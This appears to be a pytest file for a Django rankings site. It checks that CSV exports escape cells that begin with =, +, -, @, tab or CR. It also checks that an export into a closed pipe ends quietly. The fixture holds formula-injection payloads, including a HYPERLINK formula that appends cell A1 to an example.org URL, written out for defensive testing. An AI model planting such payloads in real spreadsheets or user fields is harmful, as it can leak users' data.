"""Ranking CSVs (`observatoire rankings export` and the site's download) open safely in a
spreadsheet: a name or handle beginning with =, +, -, @, tab or CR never runs as a formula."""

import csv
import io
import os

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.urls import reverse

from observatoire.rankings.services import ranking_build

from .conftest import AUGUST

pytestmark = pytest.mark.django_db
EXPORT = [
    *("rankings", "export", "--month", "2024-08"),
    *("--network", "instagram", "--category", "petite_ville"),
]
FORMULA_NAME = '=HYPERLINK("http://example.org/?"&A1;"Auch")'


@pytest.fixture
def formulas(august):
    august.a.territory.name = FORMULA_NAME
    august.a.territory.save()
    august.b.handle = "+SUM(1+1)"
    august.b.save()
    august.c.handle = "-2+3"
    august.c.save()
    august.c.territory.name = "\t@cmd"
    august.c.territory.save()
    ranking_build(month=AUGUST)
    cache.clear()
    return august


def test_rankings_export_neutralises_formulas(formulas):
    out = io.StringIO()
    call_command(*EXPORT, stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    by_rank = {row["rank"]: row for row in rows}
    assert by_rank["2"]["name"] == "'" + FORMULA_NAME
    assert by_rank["1"]["handle"] == "'+SUM(1+1)"
    assert by_rank["3"]["handle"] == "'-2+3" and by_rank["3"]["name"] == "'\t@cmd"
    assert by_rank["1"]["score"] == "76.67" and by_rank["1"]["eligible"] == "true"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_the_site_download_neutralises_the_same_way(client, formulas):
    response = client.get(
        reverse("site:rankings_csv"), {"network": "instagram", "category": "petite_ville"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = {cell for row in rows for cell in row}
    assert {"'" + FORMULA_NAME, "'+SUM(1+1)", "'-2+3", "'\t@cmd"} <= cells


def test_rankings_export_into_a_pipe_closed_early_ends_quietly(formulas):
    read_end, write_end = os.pipe()
    os.close(read_end)
    stdout = os.fdopen(write_end, "w", encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(SystemExit) as caught:
        call_command(*EXPORT, stdout=stdout, stderr=err)
    assert caught.value.code == 141 and err.getvalue() == ""
    stdout.close()
